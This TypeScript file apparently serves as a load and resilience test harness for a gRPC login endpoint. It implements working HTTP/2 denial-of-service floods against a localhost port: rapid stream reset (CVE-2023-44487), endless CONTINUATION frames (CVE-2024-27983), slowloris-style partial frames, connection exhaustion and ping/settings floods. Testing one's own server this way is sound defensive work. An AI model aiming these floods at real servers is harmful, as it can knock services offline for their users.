import { once } from 'node:events';
import { connect, constants, type ClientHttp2Session } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** Streams that are opened and reset on a connection, and connections one after the other. */
const RESETS = 2_000;
const RESETTING = 10;
/** Connections that are only held open; of those that talk, each does it in a way of its own. */
const CONNECTIONS = 2_000;
const SLOW = 500;
/** Calls that are begun and never finished, on each of a few connections: as many as one may have. */
const UNFINISHED = 200;
const UNFINISHING = 10;
/** How long what is held open is held, milliseconds. */
const HELD = 3_000;

const PATH = '/holdfast.v1.SessionService/LogIn';
const HEADERS = {
  ':method': 'POST',
  ':path': PATH,
  'content-type': 'application/grpc',
  te: 'trailers',
  'holdfast-service-key': 'w'.repeat(32),
};
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
/** Types and flags of RFC 9113, 6. */
const [DATA, SETTINGS, PING, CONTINUATION, HEADERS_FRAME] = [0, 4, 6, 9, 1];

/** One way to flood a server. @returns what was done, for the figures. */
export type Flood = (port: number) => Promise<string>;

/** Each of them by its name. */
export const FLOODS: Readonly<Record<string, Flood>> = {
  /** CVE-2023-44487: each costs the client nothing. */
  async 'streams opened and reset'(port) {
    let opened = 0;
    for (let at = 0; at < RESETTING; at += 1) {
      const session = await open(port);
      for (let stream = 0; stream < RESETS && !session.closed && !session.destroyed; stream += 1) {
        const call = session.request(HEADERS);
        call.on('error', () => undefined);
        call.write(messageOf(Buffer.alloc(100)));
        call.close(constants.NGHTTP2_CANCEL);
        opened += 1;
        if (stream % 100 === 0) await sleep(1);
      }
      await sleep(100);
      session.destroy();
    }
    return `${opened.toString()} streams reset`;
  },
  async 'calls begun and not finished'(port) {
    const sessions: ClientHttp2Session[] = [];
    for (let at = 0; at < UNFINISHING; at += 1) {
      const session = await open(port);
      sessions.push(session);
      for (let stream = 0; stream < UNFINISHED; stream += 1) {
        const call = session.request(HEADERS);
        call.on('error', () => undefined);
        // of 64 KiB that it says there are, half come
        const begun = messageOf(Buffer.alloc(64 * 1024)).subarray(0, 32 * 1024);
        call.write(begun);
      }
    }
    await sleep(HELD);
    for (const session of sessions) session.destroy();
    return `${(UNFINISHED * UNFINISHING).toString()} calls half sent`;
  },
  async 'many connections'(port) {
    const sockets = await openSockets(port, CONNECTIONS);
    await sleep(HELD);
    endAll(sockets);
    return `${sockets.length.toString()} connections held`;
  },
  async 'partial and slow frames'(port) {
    const sockets = await openSockets(port, SLOW);
    const talks = [
      [PREFACE.slice(0, 10)],
      [PREFACE, frame(SETTINGS, 0, 0).subarray(0, 5)],
      [PREFACE, frame(SETTINGS, 0, 0), frame(HEADERS_FRAME, 0, 1, Buffer.alloc(0)), 'x'],
      ['GET / HTTP/1.1\r\n', 'Host: x\r\n', 'X: '],
    ];
    for (let turn = 0; turn < 4; turn += 1) {
      for (const [at, socket] of sockets.entries()) {
        const piece = talks[at % talks.length]?.[turn];
        if (piece !== undefined && !socket.destroyed) socket.write(piece);
      }
      await sleep(HELD / 4);
    }
    endAll(sockets);
    return `${sockets.length.toString()} connections with parts of frames`;
  },
  /** CVE-2024-27983 and its like: a header without an end. */
  async 'headers without an end'(port) {
    const sent = await pour(port, [frame(HEADERS_FRAME, 0, 1, Buffer.from([0x82]))], () =>
      frame(CONTINUATION, 0, 1, literalHeaders()),
    );
    return `${sent.toString()} CONTINUATION frames`;
  },
  async 'settings and pings'(port) {
    const pings = await pour(port, [], () => frame(PING, 0, 0, Buffer.alloc(8)));
    const settings = await pour(port, [], () => frame(SETTINGS, 0, 0));
    const empty = await pour(port, [], () => frame(DATA, 0, 1));
    return `${(pings + settings + empty).toString()} empty frames`;
  },
};

/** A message of gRPC: whether it is compressed, its length, itself. */
export function messageOf(bytes: Buffer, isCompressed = false): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(isCompressed ? 1 : 0, 0);
  head.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([head, bytes]);
}

async function open(port: number): Promise<ClientHttp2Session> {
  const session = connect(`http://127.0.0.1:${port.toString()}`);
  session.on('error', () => undefined);
  await next(session, 'connect');
  return session;
}

/** Waits for an event, or until it can't come any more. */
async function next(of: ClientHttp2Session | Socket, event: string): Promise<void> {
  await Promise.race([once(of, event), once(of, 'close')]).catch(() => undefined);
}

async function openSockets(port: number, count: number): Promise<Socket[]> {
  const sockets: Socket[] = [];
  for (let at = 0; at < count; at += 1) {
    const socket = connectTcp(port, '127.0.0.1');
    socket.on('error', () => undefined);
    sockets.push(socket);
    if (at % 50 === 49) await next(socket, 'connect');
  }
  return sockets;
}

function endAll(sockets: readonly Socket[]): void {
  for (const socket of sockets) socket.destroy();
}

/** Frames at most, on one connection. */
const POURED = 50_000;

/** Writes frames until the server has had enough. @returns how many. */
async function pour(
  port: number,
  first: readonly Uint8Array[],
  make: () => Buffer,
): Promise<number> {
  const [socket] = await openSockets(port, 1);
  if (!socket) return 0;
  socket.resume();
  socket.write(Buffer.concat([Buffer.from(PREFACE), frame(SETTINGS, 0, 0), ...first]));
  let sent = 0;
  for (; sent < POURED && !socket.closed; sent += 1) {
    if (socket.write(make())) continue;
    // a server that reads no more has had enough as well
    await Promise.race([next(socket, 'drain'), sleep(1_000)]);
    if (socket.writableNeedDrain) break;
  }
  await sleep(100);
  socket.destroy();
  return sent;
}

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Header fields as HPACK has them, not indexed: a letter as its name, and 100 as its value. */
function literalHeaders(): Buffer {
  const one = Buffer.concat([Buffer.from([0, 1, 0x78, 100]), Buffer.alloc(100, 0x79)]);
  return Buffer.concat(Array.from({ length: 100 }, () => one));
}
